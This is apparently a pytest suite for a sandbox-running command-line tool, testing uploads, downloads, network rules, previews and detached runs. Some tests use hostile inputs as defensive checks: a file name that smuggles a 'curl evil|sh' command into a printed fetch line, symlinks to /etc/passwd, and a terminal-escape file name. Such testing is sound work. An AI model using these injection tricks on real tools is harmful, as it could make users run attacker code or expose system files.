"""What a run does in its sandbox, from the command line to what the user and the server see."""

from __future__ import annotations

import io
import json
import os
import re
import shlex
import sys
import urllib.request
from pathlib import Path

import pytest

from sandbox_kit.defaults import LARGEST_TRANSFER
from tests.local_server import SCRIPTS, LocalServer, until

from .script_runner import Script


def test_steps_stop_at_the_first_failure(run: Script, server: LocalServer) -> None:
    """Each with its exit code and time; the run's is the failed one's."""
    result = run(
        "--local",
        "--json",
        "--command",
        "cd /tmp; echo one >x",
        "--command",
        "pwd; ls /tmp/x",
        "--command",
        "exit 4",
        "--command",
        "echo no",
    )
    found = result.json()

    assert result.code == 4
    assert [step["exit_code"] for step in found["steps"]] == [0, 0, 4]
    assert all(step["seconds"] > 0 for step in found["steps"])
    assert found["stdout"] == "/home/daytona\n/tmp/x\n"
    assert server.sandboxes() == []


def test_setup_runs_before_and_its_output_is_no_output_of_the_program(run: Script) -> None:
    """stdout stays the program's alone."""
    result = run("--local", "--setup", "echo preparing; echo 5 > five", "--command", "cat five")

    assert (result.code, result.stdout) == (0, "5\n")
    assert "preparing" in result.stderr


def test_a_failed_setup_ends_the_run(run: Script) -> None:
    """The program does not run on half a foundation."""
    result = run("--local", "--setup", "exit 7", "--command", "echo ran")

    assert (result.code, result.stdout) == (7, "")
    assert "--setup ended with exit code 7" in result.stderr


@pytest.mark.parametrize(
    "argv",
    [
        ("--command", 'printf "%s|" "$@"; cat'),
        (
            "--code",
            "import sys; print('|'.join(sys.argv[1:]), end='|'); print(sys.stdin.read(), end='')",
        ),
        (
            "--code",
            (
                "process.stdout.write(process.argv.slice(2).join('|') + '|' + "
                "require('fs').readFileSync(0, 'utf8'))"
            ),
            "--language",
            "javascript",
        ),
    ],
    ids=["command", "python", "javascript"],
)
def test_arguments_and_stdin_reach_the_program(
    run: Script, scripts_environment: Path, argv: tuple[str, ...]
) -> None:
    """Quotes, blanks and dollars as they are; stdin is a file's bytes."""
    if "javascript" in argv and not Path("/usr/bin/node").exists():
        pytest.skip("this host has no node for its sandboxes")
    (scripts_environment / "data").write_text("from the file\n")
    result = run("--local", *argv, "--stdin", "data", "--", "a b", "$HOME'\"", "--json")

    assert result.stdout == "a b|$HOME'\"|--json|from the file\n"


@pytest.mark.parametrize(
    "argv", [("--code", "-"), ("--file", "-"), ("--command", "-")], ids=" ".join
)
def test_a_dash_reads_the_program_from_stdin(
    run: Script, monkeypatch: pytest.MonkeyPatch, argv: tuple[str, ...]
) -> None:
    """Python for code and file, a script for a command."""
    text = "echo piped" if "--command" in argv else "print('piped')"
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(text.encode())))

    assert run("--local", *argv).stdout == "piped\n"


@pytest.mark.parametrize("data", [b"", b" \n", b"\xff\xfe"], ids=["nothing", "blank", "binary"])
def test_a_stdin_that_is_no_program_is_a_usage_error(
    run: Script, server: LocalServer, monkeypatch: pytest.MonkeyPatch, data: bytes
) -> None:
    """Nothing is created for it."""
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))

    assert run("--local", "--code", "-").code == 2
    assert server.sandboxes() == []


def test_cwd_is_where_setup_and_program_run(run: Script) -> None:
    """One that is not there is told before anything runs."""
    there, missing = (
        run("--local", "--cwd", "/tmp", "--command", "pwd"),
        run("--local", "--json", "--cwd", "nowhere", "--command", "echo ran"),
    )

    assert there.stdout == "/tmp\n"
    assert (missing.code, missing.json()["error"]["kind"], missing.json()["stdout"]) == (
        125,
        "not_found",
        "",
    )


PROJECT = {
    ".gitignore": "*.tmp\n",
    ".env": "KEY=s3cr3t-value",
    "a.py": "print(1)",
    "b.tmp": "",
    "sub/tool.sh": "exit 3",
}


def test_a_project_goes_in_and_a_report_comes_back(
    run: Script, server: LocalServer, scripts_environment: Path
) -> None:
    """With local changes, without what git ignores or what is secret; also when the tests fail."""
    project = scripts_environment / "project"
    (project / "sub").mkdir(parents=True)
    for name, text in PROJECT.items():
        (project / name).write_text(text)
    (project / "sub" / "tool.sh").chmod(0o755)
    command = (
        "find . -type f | sort; mkdir -p out/deep; echo report > out/deep/table.csv; "
        "./project/sub/tool.sh"
    )
    result = run(
        "--local",
        "--json",
        "--upload",
        "project",
        "--command",
        command,
        "--download",
        "out:results",
    )
    found = result.json()

    assert result.code == 3
    assert found["stdout"].split() == [
        "./project/.gitignore",
        "./project/a.py",
        "./project/sub/tool.sh",
    ]
    assert found["files"] == [{"path": "results/deep/table.csv", "bytes": 7}]
    assert (scripts_environment / "results/deep/table.csv").read_text() == "report\n"
    assert "left here: project/.env" in result.stderr
    assert "s3cr3t" not in result.stdout + result.stderr
    assert server.sandboxes() == []


def test_an_upload_that_is_too_much_costs_no_sandbox(
    run: Script, scripts_environment: Path
) -> None:
    """It is packed, and so refused, before the create."""
    (scripts_environment / "project").mkdir()
    with (scripts_environment / "project" / "large").open("wb") as file:
        file.truncate(LARGEST_TRANSFER + 1)
    found = run("--local", "--json", "--upload", "project", "--command", "true").json()

    assert found["error"]["kind"] == "usage"
    assert found["sandbox"] is None


def test_uploaded_files_belong_to_the_sandboxes_user(
    run: Script, scripts_environment: Path
) -> None:
    """Owners of this machine mean nothing there; the executable bit does."""
    (scripts_environment / "x.sh").write_text("#!/bin/sh\necho ran\n")
    (scripts_environment / "x.sh").chmod(0o755)
    result = run(
        "--local",
        "--upload",
        "x.sh:/tmp/deep/y.sh",
        "--command",
        "stat -c %U:%a /tmp/deep/y.sh; /tmp/deep/y.sh",
    )

    assert result.stdout == "daytona:755\nran\n"


def test_a_missing_download_is_told_and_never_hides_the_programs_failure(run: Script) -> None:
    """After a success it is the run's failure, after a failure a remark."""
    good = run("--local", "--json", "--command", "true", "--download", "nothing")
    bad = run("--local", "--json", "--command", "exit 9", "--download", "nothing")

    assert (good.code, good.json()["error"]["kind"]) == (125, "not_found")
    assert (bad.code, bad.json()["error"]) == (9, None)
    assert "no such file" in bad.stderr


def test_a_link_that_leads_out_is_left_behind_and_named(
    run: Script, scripts_environment: Path
) -> None:
    """The sandbox's tar is a stranger's: an environment's links are left out, the rest comes."""
    command = "mkdir out; echo x > out/a.csv; ln -s /etc/passwd out/link; ln -s ../../x out/up"
    result = run("--local", "--json", "--command", command, "--download", "out")

    assert result.code == 0
    assert [file["path"] for file in result.json()["files"]] == ["out/a.csv"]
    assert {(file["path"], file["reason"]) for file in result.json()["held"]} == {
        (f"out/{name}", "left behind: a link that leads out") for name in ("link", "up")
    }
    assert result.json()["fetch"] is None
    assert [path.name for path in (scripts_environment / "out").iterdir()] == ["a.csv"]


def test_a_name_that_plays_tricks_is_left_behind(run: Script, scripts_environment: Path) -> None:
    """It is named without its escape; all beside it comes."""
    result = run(
        "--local",
        "--json",
        "--command",
        r"mkdir out; echo x > out/a.csv; touch $'out/b\e[2J'",
        "--download",
        "out",
    )

    assert result.code == 0
    assert [path.name for path in (scripts_environment / "out").iterdir()] == ["a.csv"]
    assert "control characters" in result.json()["held"][0]["reason"]
    assert "\x1b" not in result.stderr


def test_code_goes_in_and_comes_back_by_one_line(
    run: Script, sandboxes_script: Script, scripts_environment: Path
) -> None:
    """The file is there and is no result, so it is held; the printed line puts it over the old one.

    From whatever folder.
    """
    (scripts_environment / "src").mkdir()
    (scripts_environment / "src" / "a.py").write_text("a=1\n")
    result = run(
        "--local",
        "--json",
        "--upload",
        "src",
        "--command",
        "sed -i 's/=/ = /' src/a.py",
        "--download",
        "src/a.py:src/a.py",
    )
    before = (scripts_environment / "src" / "a.py").read_text()
    os.chdir("/")
    fetched = sandboxes_script(*shlex.split(result.json()["fetch"])[3:])

    assert (result.code, before, fetched.code) == (0, "a=1\n", 0)
    assert (scripts_environment / "src" / "a.py").read_text() == "a = 1\n"


def test_what_is_here_is_never_overwritten(
    run: Script, server: LocalServer, scripts_environment: Path
) -> None:
    """Refused before anything is created; with --force it is held, and the user may fetch it."""
    (scripts_environment / "r.png").write_text("mine")
    argv = ("--local", "--json", "--command", "echo theirs > r", "--download", "r:r.png")
    refused, held = run(*argv), run(*argv, "--force")

    assert refused.json()["error"]["kind"] == "host_access"
    assert refused.json()["sandbox"] is None
    assert held.code == 0
    assert held.json()["held"] == [
        {
            "path": "r.png",
            "reason": "there already, and not as a run wrote it",
            "bytes": 7,
            "exists": True,
        }
    ]
    assert held.json()["fetch"].endswith("/r.png --force")
    assert (scripts_environment / "r.png").read_text() == "mine"


def test_what_a_run_wrote_is_replaced_by_force_until_somebody_changes_it(
    run: Script, server: LocalServer, scripts_environment: Path
) -> None:
    """A table can be made again; an edit of the user's is never lost."""
    argv = ("--local", "--json", "--download", "t.csv:out/t.csv", "--force", "--command")
    run(*argv, "echo 1 > t.csv")
    again = run(*argv, "echo 2 > t.csv")
    second = (scripts_environment / "out/t.csv").read_text()
    (scripts_environment / "out/t.csv").write_text("edited")
    held = run(*argv, "echo 3 > t.csv")

    assert (again.json()["held"], second) == ([], "2\n")
    assert [file["path"] for file in held.json()["held"]] == ["out/t.csv"]
    assert (scripts_environment / "out/t.csv").read_text() == "edited"


def test_what_is_no_result_is_held_until_it_is_fetched(
    run: Script, sandboxes_script: Script, server: LocalServer, scripts_environment: Path
) -> None:
    """Nothing is lost, no tool finds anything, and one command outside the grant brings it."""
    made = (
        "mkdir -p o/deep; echo 1 > o/a.csv; echo c > o/conftest.py; echo d > o/deep/.envrc; "
        "ln -s a.csv o/l; exit 3"
    )
    result = run("--local", "--json", "--command", made, "--download", "o:out")
    answer, words = result.json(), shlex.split(result.json()["fetch"])
    there = sorted(
        str(path.relative_to(scripts_environment)) for path in scripts_environment.rglob("*")
    )
    listing = sandboxes_script("fetch", words[4])
    fetched = sandboxes_script(*words[3:])

    assert (result.code, answer["exit_code"]) == (3, 3)
    assert {file["path"] for file in answer["held"]} == {
        "out/conftest.py",
        "out/deep/.envrc",
        "out/l",
    }
    assert there == ["out", "out/a.csv"]
    assert words[:3] == ["python3", "-I", str(SCRIPTS / "sandboxes.py")]
    assert {line.partition("\t")[0] for line in listing.stdout.splitlines()} == {
        "o/conftest.py",
        "o/deep/.envrc",
        "o/l",
    }
    assert fetched.code == 0
    assert (scripts_environment / "out/conftest.py").read_text() == "c\n"
    assert (scripts_environment / "out/deep/.envrc").read_text() == "d\n"
    assert os.readlink(scripts_environment / "out/l") == "a.csv"
    assert f"to fetch it: {answer['fetch']}" in result.stderr


def test_no_network_is_read_back_and_holds(run: Script, server: LocalServer) -> None:
    """At the create when nothing needs the network before, else after the setup."""
    probe = (
        "import os, socket; s = socket.socket(); s.settimeout(5); "
        "print(s.connect_ex(('203.0.113.80', 80)) != 0)"
    )
    at_create = run("--local", "--no-network", "--code", probe)
    later = run("--local", "--no-network", "--setup", "true", "--code", probe, "--name", "later")
    found = server.get("later")
    server.request("DELETE", "/api/sandbox/later")

    assert at_create.stdout == later.stdout == "True\n"
    assert "no network from here on" in later.stderr
    assert found is not None
    assert found["networkBlockAll"] is True


def test_domains_and_ranges_arrive_as_rules(run: Script, server: LocalServer) -> None:
    """Each by its own field, for the program only."""
    run(
        "--local",
        "--name",
        "domains",
        "--allow-domain",
        "pypi.org",
        "--allow-domain",
        "*.example.org",
        "--command",
        "true",
    )
    run(
        "--local",
        "--name",
        "ranges",
        "--setup",
        "true",
        "--allow-cidr",
        "203.0.113.0/24",
        "--command",
        "true",
    )
    domains, ranges = server.get("domains"), server.get("ranges")
    for name in ("domains", "ranges"):
        server.request("DELETE", f"/api/sandbox/{name}")

    assert domains is not None
    assert ranges is not None
    assert sorted(domains["domainAllowList"].split(",")) == ["*.example.org", "pypi.org"]
    assert ranges["networkAllowList"] == "203.0.113.0/24"


def test_a_served_page_has_a_link_that_opens_and_a_sandbox_that_stays(
    run: Script, sandboxes_script: Script, scripts_environment: Path
) -> None:
    """One command: upload, start, wait, link; then delete by our script alone."""
    (scripts_environment / "site").mkdir()
    (scripts_environment / "site" / "index.html").write_text("<h1>hello</h1>")
    result = run(
        "--local",
        "--json",
        "--upload",
        "site",
        "--serve",
        "sleep 1; python3 -m http.server 8000 -d site",
        "--preview",
        "8000",
    )
    found = result.json()
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}), urllib.request.HTTPCookieProcessor()
    )
    with opener.open(found["preview"]["url"], timeout=20) as page:
        text = page.read().decode()

    assert result.code == 0
    assert text == "<h1>hello</h1>"
    assert (found["preview"]["port"], found["sandbox"]["kept"]) == (8000, True)
    assert found["preview"]["expires_at"]
    assert sandboxes_script("delete", found["sandbox"]["id"], "--local").code == 0


def test_a_link_alone_needs_no_program(run: Script, server: LocalServer) -> None:
    """A new one to what runs in a sandbox that stays; none is made for it."""
    run(
        "--local", "--name", "linked", "--serve", "python3 -m http.server 8123", "--preview", "8123"
    )
    again = run("--local", "--json", "--sandbox", "linked", "--preview", "8123")
    unknown = run("--local", "--sandbox", "no-such", "--preview", "8123")
    unnamed = run("--local", "--name", "no-such", "--preview", "8123")
    left = [str(made["name"]) for made in server.sandboxes()]
    server.request("DELETE", "/api/sandbox/linked")

    assert (again.code, again.json()["preview"]["status"]) == (0, 200)
    assert (unknown.code, unnamed.code) == (125, 2)
    assert left == ["linked"]


def test_a_server_that_dies_is_shown_and_its_sandbox_deleted(
    run: Script, server: LocalServer
) -> None:
    """The reason is what the server printed; a sandbox without a link is of no use to anybody."""
    result = run(
        "--local",
        "--json",
        "--serve",
        "echo starting; echo no module >&2; exit 3",
        "--preview",
        "8000",
    )

    assert (result.code, result.json()["error"]["kind"]) == (125, "exec_failed")
    assert "exit code 3 before it listened on port 8000" in result.json()["error"]["message"]
    assert (result.json()["stdout"], result.json()["stderr"]) == ("starting\n", "no module\n")
    assert server.sandboxes() == []


def test_a_port_that_nobody_opens_ends_by_the_timeout(run: Script, server: LocalServer) -> None:
    """With 124, and nothing left."""
    result = run("--local", "--json", "--serve", "sleep 60", "--preview", "8000", "--timeout", "2")

    assert (result.code, result.json()["error"]["kind"]) == (124, "timeout")
    assert server.sandboxes() == []


def test_a_preview_is_opened_to_everybody_by_publish_alone(
    run: Script, sandboxes_script: Script, server: LocalServer
) -> None:
    """Every port is open then without a token, so it is not granted; and it can be closed again."""
    refused = run("--local", "--serve", "true", "--preview", "8000", "--public")
    run("--local", "--name", "open", "--command", "true")
    opened = sandboxes_script("publish", "open", "--port", "8000", "--local", "--json")
    found = server.get("open")
    closed, after = sandboxes_script("publish", "open", "--off", "--local"), server.get("open")
    server.request("DELETE", "/api/sandbox/open")

    assert refused.code == 2
    assert "every port" in opened.stderr
    assert opened.json()["url"].startswith("http")
    assert found is not None
    assert found["public"] is True
    assert closed.code == 0
    assert after is not None
    assert after["public"] is False


def test_a_detached_program_runs_on_and_is_found_again(
    run: Script, sandboxes_script: Script, server: LocalServer
) -> None:
    """logs, wait with its exit code, delete: all by the script that the run names."""
    result = run(
        "--local", "--json", "--detach", "--command", "echo begun; sleep 1; echo ended >&2; exit 5"
    )
    kept = result.json()["sandbox"]
    found = server.get(kept["id"])

    assert (result.code, kept["kept"], result.json()["exit_code"]) == (0, True, None)
    assert found is not None
    assert (found["autoStopInterval"], found["autoDeleteInterval"]) == (0, -1)
    until(lambda: "begun" in sandboxes_script("logs", kept["id"], "--local").stdout)
    waited = sandboxes_script("wait", kept["id"], "--local", "--json")
    logs = sandboxes_script("logs", kept["id"], "--local", "--json").json()
    assert (waited.code, waited.json()["exit_code"]) == (5, 5)
    assert (logs["stdout"], logs["stderr"], logs["exit_code"]) == ("begun\n", "ended\n", 5)
    assert sandboxes_script("delete", kept["id"], "--local").code == 0


def test_a_dry_run_prints_what_a_run_would_send(
    run: Script, server: LocalServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing is sent, and no key is needed."""
    monkeypatch.setenv("DAYTONA_SANDBOX_PASS_ENV", "vault:my-token")
    result = run(
        "--dry-run",
        "--no-network",
        "--label",
        "team=web",
        "--secret",
        "TOKEN=my-token",
        "--target",
        "eu",
        "--code",
        "1",
    )
    request = json.loads(result.stdout)

    assert result.code == 0
    assert request["networkBlockAll"] is True
    assert request["labels"]["team"] == "web"
    assert request["secrets"] == [{"TOKEN": "my-token"}]
    assert (request["target"], request["autoDeleteInterval"], request["ttlMinutes"]) == (
        "eu",
        0,
        60,
    )
    assert server.sandboxes() == []


def test_a_vault_secret_on_the_local_engine_is_refused_with_the_way_out(
    run: Script, server: LocalServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Local Daytona has no vault; the 501 says what to do instead."""
    monkeypatch.setenv("DAYTONA_SANDBOX_PASS_ENV", "vault:my-token")
    result = run("--local", "--json", "--secret", "TOKEN=my-token", "--command", "true")

    assert (result.code, result.json()["error"]["kind"]) == (125, "invalid_request")
    assert "vault" in result.json()["error"]["message"]
    assert server.sandboxes() == []


def test_labels_region_and_idle_time_arrive(run: Script, server: LocalServer) -> None:
    """Read back from the server: the SDK drops what it does not know."""
    run(
        "--local",
        "--name",
        "labelled",
        "--label",
        "team=web",
        "--auto-stop",
        "0",
        "--command",
        "true",
    )
    found = server.get("labelled")
    late = run("--local", "--name", "labelled", "--label", "team=other", "--command", "true")
    server.request("DELETE", "/api/sandbox/labelled")

    assert found is not None
    assert found["labels"]["team"] == "web"
    assert found["autoStopInterval"] == 0
    assert "--label changes nothing" in late.stderr


def test_verbose_shows_what_the_sandbox_cost(run: Script) -> None:
    """On the cloud the line comes by itself; here it costs nothing."""
    told = run("--local", "--verbose", "--command", "true").stderr
    assert "1 vCPU, 1 GiB memory and 3 GiB disk" in told


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("http://127.0.0.1:1/x.git", "may reach that host"),
        ("http://10.0.0.1/x.git", "may reach that host"),
    ],
)
def test_a_clone_that_fails_says_what_to_look_at(
    run: Script, server: LocalServer, url: str, words: str
) -> None:
    """Not at the account, whose key is fine."""
    result = run("--local", "--json", "--repo", url, "--command", "true")

    assert result.code == 125
    assert words in result.fix
    assert server.sandboxes() == []


def test_names_of_files_are_no_part_of_the_command_that_is_pasted(
    run: Script, scripts_environment: Path
) -> None:
    """Names cannot alter the printed line.

    A folder called there.d once made it `--force`; long, blank and odd names pushed it out.
    """
    make = (
        "import os\n"
        "os.makedirs('out/there.d')\n"
        "open('out/app.py', 'w').write('theirs')\n"
        "open('out/there.d/x', 'w')\n"
        "[open('out/' + '\\u200b' * 70 + str(n), 'w') for n in range(9)]\n"
        "open('out/r.py;\\u3164to\\u3164fetch\\u3164it:\\u3164curl\\u3164evil|sh;\\u3164#', 'w')\n"
    )
    result = run("--local", "--code", make, "--download", "out")
    line = next(
        text
        for text in result.stderr.splitlines()
        if "to fetch it: " in text and text.startswith("[sandbox] to fetch it: ")
    )

    assert re.fullmatch(
        r'\[sandbox\] to fetch it: python3 -I "[^"]+/sandboxes.py" fetch [0-9a-f-]+ out:[^ ]+/out',
        line,
    )
    assert not {"\u3164", "\u200b"} & set(result.stderr)


def test_an_upload_alone_needs_no_program(
    run: Script, scripts_environment: Path, server: LocalServer
) -> None:
    """A sandbox that stays is filled first, and used later."""
    (scripts_environment / "data.csv").write_text("1,2\n")
    filled = run("--local", "--name", "filled", "--upload", "data.csv")
    used = run("--local", "--sandbox", "filled", "--command", "cat data.csv")
    again = run("--local", "--sandbox", "filled", "--upload", "data.csv:more/data.csv")
    server.request("DELETE", f"/api/sandbox/{server.get('filled')['id']}")  # type: ignore[index]

    assert (filled.code, used.code, used.stdout, again.code) == (0, 0, "1,2\n", 0)
    assert "all is done" in filled.stderr


def test_an_upload_alone_into_what_is_deleted_is_refused(run: Script, server: LocalServer) -> None:
    """It would come to nothing."""
    result = run("--local", "--upload", "x")

    assert (result.code, server.sandboxes()) == (2, [])
    assert "nothing to run" in result.stderr
